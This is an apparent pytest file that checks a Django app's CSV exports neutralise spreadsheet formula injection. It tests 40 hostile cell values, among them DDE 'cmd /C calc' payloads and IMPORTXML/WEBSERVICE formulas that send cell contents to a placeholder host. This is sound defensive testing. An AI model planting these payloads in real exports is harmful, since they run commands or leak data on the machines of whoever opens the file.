"""Forty formulas through every export: no spreadsheet runs what an adapter or a person wrote.

The judge below reads a file as spreadsheets do, with a comma between cells and with a semicolon (Excel in German), and
shares no code with the exports.
"""

import csv
import io
import re
from pathlib import Path
from typing import Any, Final

import pytest

from core import cells
from tasks_app import events, reports, summaries
from tasks_app.admin import export
from tasks_app.models import HumanTask, Principal, Quarter
from tests.admin.conftest import QUEUE, ClientFor
from tests.cast import NewTaskFactory

ROOT: Final = Path(__file__).resolve().parents[2]
FORMULAS: Final = [
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "   +1", "\u00a0=1", "\u3000=1", "\u200b=1"),
    *("\ufeff=1", "\u2003@x", "＝1+1", "＋1", "－1", "＠x", "%x", "|x", '=HYPERLINK("http://x","y")', "'=1+1\n=2"),
    *("-2+3+cmd|' /C calc'!A0", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", '=WEBSERVICE("http://x")'),
    *('=IMPORTXML(CONCAT("http://x",A1),"//a")', '=IMAGE("http://x")', '=DDE("cmd";"/C calc";"x")', '"=1+1"'),
    *("a;=1+1", "a; =1", "a;\t@x", "a;b;-1", ";=1", ";;=1", 'x";=1+1;"', "\n\n+1", "\t\t-1", "=\x071"),
]  # fmt: skip


def formulas_in(text: str) -> list[str]:
    """The cells that a spreadsheet would run, whichever of the two separators it goes by."""
    found = []
    for separator in (",", ";"):
        file = io.StringIO(text.removeprefix("\ufeff"), newline="")
        for row in csv.reader(file, delimiter=separator):
            found += [cell for cell in row if re.match(r"[\s\u200b\ufeff]*[=+\-@|%＝＋－＠]|[\t\r\n]", cell)]
    return [cell for cell in found if not re.fullmatch(r"\s*-?\d+(\.\d+)?\s*", cell)]


def content_of(response: Any) -> str:
    assert response.status_code == 200
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return bytes(content).decode()


@pytest.fixture
def hostile(make_task: NewTaskFactory) -> list[HumanTask]:
    """A task for each formula, in every column that an adapter fills; principals by such a name."""
    made = [
        make_task(adapter_name=text[:64], operation=text, media_buy_id=text, creative_id=text, error_detail=text)
        for text in FORMULAS
    ]
    Principal.objects.update(name=FORMULAS[22])
    return made


def all_exports(client_for: ClientFor) -> dict[str, str]:
    """Every file that the console gives away."""
    while events.assign_positions():
        pass
    while summaries.roll_up():
        pass
    client = client_for("sam")
    files = {"queue": content_of(client.get(f"{QUEUE}export/", {"tab": "all"}))}
    for by in reports.DIMENSIONS:
        asked = {"period": "month", "format": "csv", "by": by}
        files[f"report by {by}"] = content_of(client.get("/admin/tasks_app/quarter/", asked))
    return files


@pytest.mark.django_db
def test_no_export_holds_a_formula(hostile: list[HumanTask], client_for: ClientFor) -> None:
    assert len(set(FORMULAS)) == 40
    for name, text in all_exports(client_for).items():
        assert formulas_in(text) == [], name
    assert Quarter.objects.values("adapter_name").distinct().count() >= 30


@pytest.mark.django_db
def test_its_judge_finds_formulas_where_cells_are_left_as_they_are(
    hostile: list[HumanTask], client_for: ClientFor, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The control."""
    for module in (export, reports):
        monkeypatch.setattr(module, "harmless", str)
    found = {name: len(formulas_in(text)) for name, text in all_exports(client_for).items()}
    assert found["queue"] >= 5 * 38
    assert found["report by adapter_name"] >= 30


@pytest.mark.parametrize("text", FORMULAS, ids=range(len(FORMULAS)))
def test_it_disarms_each_formula(text: str) -> None:
    out = io.StringIO()
    csv.writer(out, quoting=csv.QUOTE_ALL).writerow(["mb-1", cells.harmless(text), "cr_1"])
    assert formulas_in(out.getvalue()) == []


@pytest.mark.parametrize("cell", ["plain", "a=1", "1-2", "", "'=1", "cr_1", "mb-1", "a;b", "50 %", "e-mail; phone", 7])
def test_it_leaves_other_cells_alone(cell: Any) -> None:
    assert cells.harmless(cell) == str(cell)


def test_it_knows_every_module_that_writes_such_files() -> None:
    """What reads logs (tasks_app/replay) writes none."""
    writers = {
        str(path.relative_to(ROOT))
        for folder in ("core", "tasks_app", "notifications", "hitl")
        for path in (ROOT / folder).rglob("*.py")
        if re.search(r"csv\.(Dict)?[wW]riter|text/csv|openpyxl|xlsx", path.read_text())
    }
    assert writers == {"tasks_app/admin/export.py", "tasks_app/admin/reports.py"}
